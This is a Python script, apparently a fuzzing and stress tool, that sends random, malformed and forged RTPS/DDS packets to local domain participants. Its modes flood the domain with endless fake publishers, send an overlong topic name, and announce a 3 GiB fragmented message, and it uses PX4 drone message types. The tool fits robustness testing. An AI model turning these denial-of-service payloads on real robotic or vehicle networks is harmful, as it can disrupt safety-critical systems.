"""Sends corrupt and forged RTPS packets to the participants of a domain on this computer.

    dds_hostile.py DOMAIN corrupt   packets with random content, and packets with errors
    dds_hostile.py DOMAIN endpoints publishers, without end
    dds_hostile.py DOMAIN names     a publisher with a long name
    dds_hostile.py DOMAIN fragment  the first fragment of a message of 3 GiB
"""

import random
import socket
import struct
import sys
import time

PORTS = [7400 + 250 * int(sys.argv[1]) + offset for offset in (0, 1, *range(10, 16))]
RANDOM = random.Random(1)
SOCKET = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
SUBMESSAGES = [1, 6, 7, 8, 9, 0xC, 0xD, 0xE, 0xF, 0x12, 0x13, 0x15, 0x30, 0x31, 0x32, 0x80]


def send(packet):
    for port in PORTS:
        SOCKET.sendto(packet, ("127.0.0.1", port))


def header(prefix=None):
    return b"RTPS\x02\x04\x01\x10" + (prefix or RANDOM.randbytes(12))


def submessage(kind, body, flags=1, length=None):
    return struct.pack("<BBH", kind, flags, len(body) if length is None else length) + body


def parameter(kind, value):
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", kind, len(value)) + value


def text(value):
    value = value.encode() + b"\0"
    return struct.pack("<I", len(value)) + value


def data(prefix, reader, writer, number, parameters):
    start = b"\0\0\x10\0" + reader + writer + struct.pack("<iI", 0, number) + b"\0\3\0\0"
    return header(prefix) + submessage(0x15, start + parameters + parameter(1, b""), 5)


def participant(prefix):
    locator = struct.pack("<iI", 1, 9) + bytes(12) + b"\x7f\0\0\1"
    parameters = parameter(0x15, b"\2\4\0\0") + parameter(0x16, b"\1\x10\0\0")
    parameters += parameter(0x50, prefix + b"\0\0\1\xc1") + parameter(0x32, locator) + parameter(0x31, locator)
    parameters += parameter(2, struct.pack("<iI", 60, 0)) + parameter(0x58, struct.pack("<I", 0xC3F))
    return data(prefix, b"\0\1\0\xc7", b"\0\1\0\xc2", 1, parameters)


def publisher(prefix, number, topic):
    parameters = parameter(0x5A, prefix + struct.pack(">I", number << 8 | 3))
    parameters += parameter(0x50, prefix + b"\0\0\1\xc1") + parameter(5, text(topic))
    parameters += parameter(7, text("px4_msgs::msg::dds_::ArmingCheckRequest_"))
    parameters += parameter(0x1A, struct.pack("<iiI", 1, 0, 0))
    return data(prefix, b"\0\0\3\xc7", b"\0\0\3\xc2", number, parameters)


def corrupt():
    valid = [participant(RANDOM.randbytes(12)), publisher(RANDOM.randbytes(12), 1, "rt/a")]
    kind = RANDOM.randrange(4)
    if kind == 0:
        return RANDOM.randbytes(RANDOM.randrange(1, 300))
    if kind == 1:
        packet = header()
        for _ in range(RANDOM.randrange(1, 5)):
            body = RANDOM.randbytes(RANDOM.randrange(120))
            length = RANDOM.choice([None, None, 0, 65535, RANDOM.randrange(200)])
            packet += submessage(RANDOM.choice(SUBMESSAGES), body, RANDOM.randrange(256), length)
        return packet
    packet = bytearray(RANDOM.choice(valid))
    if kind == 2:
        return packet[: RANDOM.randrange(len(packet))]
    for _ in range(RANDOM.randrange(1, 6)):
        value = RANDOM.choice([0, 1, 0x7F, 0x80, 0xFF, RANDOM.randrange(256)])
        packet[RANDOM.randrange(20, len(packet))] = value
    return packet


if sys.argv[2] == "corrupt":
    while True:
        for _ in range(100):
            send(corrupt())
        time.sleep(0.02)
PREFIX = RANDOM.randbytes(12)
number = 0
while sys.argv[2] == "fragment":
    ids = b"\0\0\3\xc7" + b"\0\0\3\xc2"
    fragment = struct.pack("<HH", 0, 28) + ids + struct.pack("<iIIHHI", 0, 1, 1, 1, 65_000, 3 << 30) + bytes(100)
    send(header(PREFIX) + submessage(0x16, fragment))
    time.sleep(1)
while True:
    send(participant(PREFIX))
    time.sleep(0.2)
    for _ in range(1_000):
        number += 1
        send(publisher(PREFIX, number, "rt/" + "x" * 1_000 if sys.argv[2] == "names" else f"rt/flood/{number}"))
        if sys.argv[2] == "names":
            break
        if number % 50 == 0:
            time.sleep(0.01)
